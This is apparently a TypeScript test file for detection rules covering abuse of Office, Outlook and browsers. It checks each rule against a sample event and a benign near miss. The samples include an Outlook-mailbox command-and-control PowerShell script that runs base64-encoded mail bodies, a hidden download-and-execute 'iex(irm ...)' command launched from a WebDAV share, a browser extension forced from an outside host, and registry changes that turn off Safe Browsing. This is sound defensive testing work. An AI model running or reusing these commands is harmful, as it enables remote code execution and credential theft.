// Built-in rules for Office, Outlook and browsers as places to run and persist: each rule fires on the event it is
// written for, as Windows or Sysmon writes it, with its level and a tactic of what the event shows, and a benign near
// miss of the same event type does not fire it.
import type { JsonRecord } from '../event.js';
import { CHROME, describeCatalogue, EXPL, PS, processAccess, proc, reg, regValue, S32, script, sysmon, TMP, USER, type CatalogueCase, type Ev } from './builtin.fixture.js';

const EDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';
const OUTLOOK = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
const HKU = 'HKU\\S-1-5-21-1-2-3-1104\\Software';
const HKLM_POL = '\\REGISTRY\\MACHINE\\SOFTWARE\\Policies';
const KIOSK = `"${EDGE}" --kiosk https://accounts.google.com/ServiceLogin --edge-kiosk-type=fullscreen --no-first-run`;
/** Sysmon 12: a registry value or key deleted. */
const regDelete = (key: string, image = `${S32}reg.exe`, type = 'DeleteValue'): Ev => sysmon(12, { EventType: type, Image: image, TargetObject: key, User: USER });
/** Sysmon 1 with the working directory Sysmon records. */
const procIn = (image: string, cmd: string, dir: string, parent = EXPL, extra: JsonRecord = {}): Ev => proc(image, cmd, parent, { CurrentDirectory: dir, ...extra });
const C2_SCRIPT = "$o=New-Object -ComObject Outlook.Application;$in=$o.GetNamespace('MAPI').GetDefaultFolder(6)\n" +
  "foreach($m in @($in.Items|?{$_.Subject -like '[SYNC]*'})){ $r=(iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($m.Body))) | Out-String); $y=$m.Reply(); $y.Body=$r; $y.Send(); $m.Delete() }";
const MAIL_REPORT = "$o=New-Object -ComObject Outlook.Application;$in=$o.GetNamespace('MAPI').GetDefaultFolder(6)\n" +
  "foreach($m in $in.Items){ if($m.Subject -like 'Newsletter*'){ $m.Delete() } }";

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['Browser Started In Kiosk Mode By A Script Host Or A User-Folder Program', 'medium', 'credential-access',
    proc(EDGE, KIOSK, `${TMP}IXP000.TMP\\Rhode.exe`),
    proc(EDGE, KIOSK, EXPL)],
  ['Browser Started In Kiosk Mode By A Script Host Or A User-Folder Program', 'medium', 'credential-access',
    proc(CHROME, `"${CHROME}" --kiosk https://login.example.com/`, 'C:\\Users\\bob\\AppData\\Local\\AutoIt3\\AutoIt3.exe'),
    proc(CHROME, `"${CHROME}" https://login.example.com/`, 'C:\\Users\\bob\\AppData\\Local\\AutoIt3\\AutoIt3.exe')],
  ['Browser Process Memory Read By A Script Or User-Folder Program (Sysmon 10)', 'medium', 'credential-access',
    processAccess('C:\\ProgramData\\Intel\\igfxsvc.exe', CHROME, '0x1410'),
    processAccess('C:\\ProgramData\\Intel\\igfxsvc.exe', CHROME, '0x1000')],
  ['Browser Process Memory Read By A Script Or User-Folder Program (Sysmon 10)', 'medium', 'credential-access',
    processAccess(PS, EDGE, '0x1fffff'),
    processAccess('C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\Application\\chrome.exe', CHROME, '0x1410')],
  ['Browser Safe Browsing Or SmartScreen Turned Off By Policy (Security 4657)', 'medium', 'defense-impairment',
    regValue(`${HKLM_POL}\\Google\\Chrome`, 'SafeBrowsingProtectionLevel', '0', '%%1904'),
    regValue(`${HKLM_POL}\\Google\\Chrome`, 'SafeBrowsingProtectionLevel', '2', '%%1904')],
  ['Browser Safe Browsing Or SmartScreen Turned Off By Policy (Security 4657)', 'medium', 'defense-impairment',
    regValue(`${HKLM_POL}\\Microsoft\\Edge`, 'SmartScreenPuaEnabled', '0', '%%1904'),
    regValue(`${HKLM_POL}\\Microsoft\\Edge`, 'HomepageLocation', '0', '%%1904')],
  ['Browser Safe Browsing Or SmartScreen Turned Off By Policy In The Registry', 'medium', 'defense-impairment',
    reg('HKLM\\SOFTWARE\\Policies\\Google\\Chrome\\DownloadRestrictions', 'DWORD (0x00000000)'),
    sysmon(13, { EventType: 'SetValue', Image: `${S32}svchost.exe`, TargetObject: 'HKLM\\SOFTWARE\\Policies\\Google\\Chrome\\DownloadRestrictions', Details: 'DWORD (0x00000000)', User: 'NT AUTHORITY\\SYSTEM' })],
  ['Browser Safe Browsing Or SmartScreen Turned Off By Policy In The Registry', 'medium', 'defense-impairment',
    reg('HKLM\\SOFTWARE\\Policies\\Microsoft\\Edge\\SmartScreenEnabled', 'DWORD (0x00000000)', PS),
    reg('HKLM\\SOFTWARE\\Policies\\Microsoft\\Edge\\SmartScreenEnabled', 'DWORD (0x00000001)', PS)],
  ['Browser Extension Forced From An Update Address Outside The Web Stores (Security 4657)', 'medium', 'persistence',
    regValue(`${HKLM_POL}\\Google\\Chrome\\ExtensionInstallForcelist`, '1', 'kjgkhdmeogamlhncnhjfmhjjjnebpjpe;https://ext-cdn.docs-sync.net/crx/update.xml', '%%1904'),
    regValue(`${HKLM_POL}\\Google\\Chrome\\ExtensionInstallForcelist`, '1', 'nngceckbapebfimnlniiiahkandclblb;https://clients2.google.com/service/update2/crx', '%%1904')],
  ['Browser Extension Forced From An Update Address Outside The Web Stores', 'medium', 'persistence',
    reg('HKLM\\SOFTWARE\\Policies\\Microsoft\\Edge\\ExtensionInstallForcelist\\1', 'abcdefghijklmnopabcdefghijklmnop;http://203.0.113.9/u.xml'),
    reg('HKLM\\SOFTWARE\\Policies\\Microsoft\\Edge\\ExtensionInstallForcelist\\1', 'jbkfoedolllekgbhcbcoahefnbanhhlh;https://edge.microsoft.com/extensionwebstorebase/v1/crx', `${S32}svchost.exe`)],
  ['Word Global Template Redirected With GlobalDotName (Security 4657)', 'medium', 'persistence',
    regValue('\\REGISTRY\\USER\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Office\\16.0\\Word\\Options', 'GlobalDotName', 'C:\\ProgramData\\Microsoft\\OfficeTemplates\\Normal.dotm', '%%1904'),
    regValue('\\REGISTRY\\USER\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Office\\16.0\\Word\\Options', 'DOC-PATH', 'C:\\Users\\bob\\Documents', '%%1904')],
  ['Word Global Template Redirected With GlobalDotName', 'medium', 'persistence',
    reg(`${HKU}\\Microsoft\\Office\\16.0\\Word\\Options\\GlobalDotName`, 'C:\\ProgramData\\t\\Normal.dotm'),
    reg(`${HKU}\\Microsoft\\Office\\16.0\\Word\\Options\\GlobalDotName`, 'C:\\ProgramData\\t\\Normal.dotm', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE')],
  ['Office Add-In Kept From Being Disabled By Another Program (Resiliency)', 'low', 'stealth',
    reg(`${HKU}\\Microsoft\\Office\\16.0\\Outlook\\Resiliency\\DoNotDisableAddinList\\MailSyncHelper.Connect`, 'DWORD (0x00000001)'),
    reg(`${HKU}\\Microsoft\\Office\\16.0\\Outlook\\Resiliency\\DoNotDisableAddinList\\MailSyncHelper.Connect`, 'DWORD (0x00000001)', `${S32}svchost.exe`)],
  ['Office Add-In Kept From Being Disabled By Another Program (Resiliency)', 'low', 'stealth',
    regDelete(`${HKU}\\Microsoft\\Office\\16.0\\Outlook\\Resiliency\\DisabledItems\\3A1F0C42`),
    regDelete(`${HKU}\\Microsoft\\Office\\16.0\\Outlook\\Resiliency\\DisabledItems\\3A1F0C42`, OUTLOOK)],
  ['Outlook Mailbox Used As A Command Channel In A Script Block (4104)', 'high', 'command-and-control',
    script(C2_SCRIPT), script(MAIL_REPORT)],
  ['Shell Or Script Host Started From Explorer In A WebDAV Working Directory', 'medium', 'initial-access',
    procIn(PS, 'powershell.exe -w hidden -ep bypass -c "iex(irm https://x.example/i.ps1)"', '\\\\mild-hint.trycloudflare.com@SSL\\DavWWWRoot\\'),
    procIn(PS, 'powershell.exe -w hidden -ep bypass -c "iex(irm https://x.example/i.ps1)"', 'C:\\Users\\bob\\')],
  ['Shell Or Script Host Started From Explorer In A WebDAV Working Directory', 'medium', 'initial-access',
    procIn(`${S32}cmd.exe`, 'cmd.exe /c start.bat', '\\\\203.0.113.45@80\\webdav\\'),
    procIn(`${S32}cmd.exe`, 'cmd.exe /c start.bat', '\\\\203.0.113.45@80\\webdav\\', `${S32}svchost.exe`)],
];

describeCatalogue('built-in rules: Office, Outlook and browsers', cases);
